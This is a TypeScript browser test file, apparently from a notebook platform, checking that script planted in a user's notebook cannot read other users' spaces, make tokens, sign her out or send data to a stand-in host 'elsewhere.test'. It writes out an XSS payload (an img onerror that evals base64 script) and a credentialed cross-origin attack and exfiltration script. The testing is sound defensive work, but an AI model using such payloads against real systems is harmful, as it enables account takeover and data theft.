import { existsSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { workspaceFolder } from './command.ts';

const executablePath = ['/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome'].find(existsSync);
const args = ['--no-sandbox', '--disable-gpu', '--disable-background-networking'];
const patience = { timeout: 120_000 };

const workspace = workspaceFolder();
const { path: folder, atelier, json } = workspace;
const file = `workspace: shops
studio: { spaces: shared }
people: { lead: { role: lead-data-scientist }, july: { role: data-scientist }, john: { role: data-scientist } }
projects: { sales: { members: [lead, july, john] }, costs: { members: [lead, july] } }
`;

let browser: Browser;
let context: BrowserContext;
let page: Page;
let port = '';
/** What has come to where the internet would be: a server of our own, by a name that this browser alone knows. */
const elsewhere: string[] = [];
let elsewherePort = 0;
const internet = createServer((asked, response) => {
  elsewhere.push(`${asked.method} ${asked.url}`);
  response.end();
});

/** Script that tries the portal, the other spaces and tracking, and marks in the page that it ran and what it was told. */
function attack(kind: string): string {
  const at = (label: string) => `http://${label}localhost:${port}`;
  const read = [
    `http://elsewhere.test:${elsewherePort}/data-of-the-project`,
    ...['', 'tokens', 'openapi.json', 'device', 'spaces/july/costs/lab'].map((path) => `${at('')}/${path}`),
    ...['john--sales.', 'july--costs.', 'july--sales.', 'lead--sales.', 'shared-costs.'].map(
      (label) => `${at(label)}/api/contents`,
    ),
    ...['sales', 'costs'].map((project) => `${at(`tracking-${project}.`)}/ajax-api/2.0/mlflow/experiments/search`),
  ];
  const send = [
    [`${at('')}/open-space`, 'project=costs'],
    [`${at('')}/sign-out`, ''],
    [`${at('')}/tokens`, JSON.stringify({ name: 'theirs', scope: 'all', project: null, keys: false })],
    [`${at('tracking-costs.')}/api/2.0/mlflow/experiments/create`, JSON.stringify({ name: 'theirs' })],
    [`${at('july--costs.')}/api/contents`, JSON.stringify({ type: 'notebook' })],
    [`http://elsewhere.test:${elsewherePort}/`, 'data of the project'],
  ];
  return `(async () => {
    const said = [];
    const note = (text) => { if (text) said.push(text); };
    const others = ${JSON.stringify(read)}.filter((one) => new URL(one).host !== location.host);
    for (const mode of ['cors', 'no-cors']) {
      for (const address of others) {
        await fetch(address, { mode, credentials: 'include' }).then((one) => one.text()).then(note, () => undefined);
      }
      for (const [address, body] of ${JSON.stringify(send)}) {
        for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'application/json']) {
          const headers = { 'content-type': type };
          await fetch(address, { method: 'POST', mode, credentials: 'include', headers, body }).then((one) => one.text()).then(note, () => undefined);
        }
        navigator.sendBeacon(address, body);
      }
    }
    for (const address of others) for (const name of ['img', 'script', 'iframe', 'object', 'embed', 'video', 'link']) {
      const one = Object.assign(document.createElement(name), { src: address, data: address, rel: 'stylesheet', href: address });
      document.body.append(one);
      setTimeout(() => one.remove(), 1500);
    }
    for (const label of ['', 'john--sales.', 'july--costs.', 'tracking-costs.']) {
      await new Promise((resolve) => {
        let socket = {};
        try {
          socket = new WebSocket('ws://' + label + 'localhost:${port}/api/kernels/1/channels');
        } catch {
          resolve();
        }
        socket.onopen = () => { note('a websocket'); resolve(); };
        socket.onerror = resolve;
      });
    }
    await navigator.serviceWorker?.register?.('/files/worker.js').then(() => note('a worker'), () => undefined);
    const top = window.top ?? window;
    try {
      top.ran = { ...top.ran, ${JSON.stringify(kind)}: said };
    } catch {
      // A frame without an origin, whose own page nobody sees.
    }
  })()`;
}

/** What somebody was let do in their browser so far. */
async function allowed(person = 'july'): Promise<string[]> {
  const { out } = await atelier('audit', '--person', person, '--json');
  const entries = out.split(/\n/).filter((line) => line.startsWith('{'));
  return entries
    .map((line) => JSON.parse(line) as { request: string; allowed: boolean; by: string })
    .filter((one) => one.allowed && one.by.startsWith('session'))
    .map(({ request }) => request);
}

async function signedIn(person: string): Promise<{ readonly context: BrowserContext; readonly page: Page }> {
  const own = await browser.newContext();
  const first = await own.newPage();
  const { url } = (await json('person', 'invite', person)) as unknown as { url: string };
  port = new URL(url).port;
  await first.goto(url);
  for (const name of ['password', 'again']) await first.fill(`input[name="${name}"]`, 'correct horse battery');
  await first.getByRole('button', { name: /password/i }).click();
  await first.getByRole('button', { name: 'Sign out' }).waitFor(patience);
  return { context: own, page: first };
}

/** What an output does in a page that shows it. */
async function ranIn(seen: Page, kind: string): Promise<readonly string[] | undefined> {
  return ((await seen.evaluate('window.ran')) as Record<string, string[]> | undefined)?.[kind];
}

describe.skipIf(executablePath === undefined)(
  "script in the page of july's notebook (skipped without Chromium)",
  () => {
    beforeAll(async () => {
      writeFileSync(join(folder, 'atelier.yaml'), file);
      const up = await atelier('up');
      if (up.code !== 0) throw new Error(up.err);
      await new Promise<void>((resolve) => internet.listen(0, '127.0.0.1', resolve));
      elsewherePort = (internet.address() as AddressInfo).port;
      const names = '--host-resolver-rules=MAP elsewhere.test 127.0.0.1';
      browser = await chromium.launch({ executablePath: executablePath ?? '', args: [...args, names] });
      ({ context, page } = await signedIn('july'));
      for (const project of ['costs', 'sales']) {
        await page.goto(`http://localhost:${port}/`);
        await page.getByRole('region', { name: project }).getByRole('button', { name: 'Open my notebooks' }).click();
        await page.locator('.jp-LauncherCard').first().waitFor(patience);
      }
      for (const project of ['costs', 'sales']) {
        await page.goto(`http://tracking-${project}.localhost:${port}/`);
        await page.waitForURL(/tracking-/, patience);
      }
    });

    afterAll(async () => {
      await browser?.close();
      internet.close();
      internet.closeAllConnections();
      await workspace.remove();
    });

    test('does nothing anywhere else in her name, from the page of a real space', async () => {
      await page.goto(`http://july--sales.localhost:${port}/lab?reset`);
      await page.locator('.jp-LauncherCard[data-category="Notebook"]').first().click(patience);
      await page.getByText('Python 3 (ipykernel) | Idle').first().waitFor(patience);
      const before = new Set(await allowed());
      await page.evaluate(attack('page'));
      await page.waitForLoadState('networkidle');
      const told = (await page.evaluate('window.ran')) as Record<string, string[]>;
      // It ran, and was told nothing.
      expect(Object.values(told).flat()).toEqual([]);
      const after = (await allowed()).filter(
        (request) => !before.has(request) && !request.includes('july--sales.localhost'),
      );
      expect(after).toEqual([]);
      expect(Object.keys(told)).toEqual(['page']);
      expect(elsewhere).toEqual([]);
    });

    test('would send what it has read to the internet, were it not for the headers of its page', async () => {
      const open = await browser.newContext({ bypassCSP: true, storageState: await context.storageState() });
      const lies = await open.newPage();
      await lies.goto(`http://july--sales.localhost:${port}/lab`);
      await lies.evaluate(attack('open'));
      await expect.poll(() => elsewhere.some((asked) => asked.startsWith('POST')), patience).toBe(true);
      await open.close();
    });

    test('nor does an output that she leaves in the notebook of her team, for her or for john, who reads it', async () => {
      const script = Buffer.from(attack('output')).toString('base64');
      const code = `from IPython.display import HTML\nHTML("<img src=x onerror=\\"eval(atob('${script}'))\\">")`;
      const john = await signedIn('john');
      for (const { page: at } of [{ page }, john]) {
        await at.goto(`http://localhost:${port}/`);
        const sales = at.getByRole('region', { name: 'sales' });
        await sales.getByRole('button', { name: "Open the team's notebooks" }).click();
        await at.locator('.jp-LauncherCard').first().waitFor(patience);
      }
      const before = new Set([...(await allowed()), ...(await allowed('john'))]);
      const heard = elsewhere.length;
      await page.locator('.jp-LauncherCard[data-category="Notebook"]').first().click(patience);
      await page.getByText('Python 3 (ipykernel) | Idle').first().waitFor(patience);
      await page.locator('.jp-CodeCell .cm-content').first().click();
      await page.keyboard.insertText(code);
      await page.keyboard.press('Shift+Enter');
      await page
        .locator('.jp-OutputArea-output img')
        .first()
        .waitFor({ ...patience, state: 'attached' });
      await john.page.goto(`${new URL(john.page.url()).origin}/lab/tree/Untitled.ipynb`);
      await john.page
        .locator('.jp-OutputArea-output img')
        .first()
        .waitFor({ ...patience, state: 'attached' });
      for (const { page: at } of [{ page }, john]) {
        // What comes by the others' hands is cleaned of script; it is run as if it were not.
        expect(await ranIn(at, 'output')).toBeUndefined();
        await at.evaluate(attack('output'));
        await expect.poll(() => ranIn(at, 'output'), patience).toEqual([]);
        await at.waitForLoadState('networkidle');
      }
      const after = [...(await allowed()), ...(await allowed('john'))].filter(
        (request) => !before.has(request) && !request.includes('shared-sales.localhost'),
      );
      expect(after).toEqual([]);
      expect(elsewhere.slice(heard)).toEqual([]);
      await john.context.close();
    });

    test('has neither signed her out nor made a token, and left her other space and tracking alone', async () => {
      const home = await context.newPage();
      await home.goto(`http://localhost:${port}/`);
      await home.getByRole('heading', { name: 'Welcome, july' }).waitFor(patience);
      const tokens = await home.evaluate("fetch('/tokens').then((one) => one.json())");
      expect(tokens).toMatchObject({ tokens: [] });
      const found = await home.evaluate('navigator.serviceWorker.getRegistrations().then((all) => all.length)');
      expect(found).toBe(0);
      await home.goto(`http://tracking-costs.localhost:${port}/`);
      expect(await home.locator('body').textContent()).not.toContain('theirs');
      await home.close();
    });
  },
);
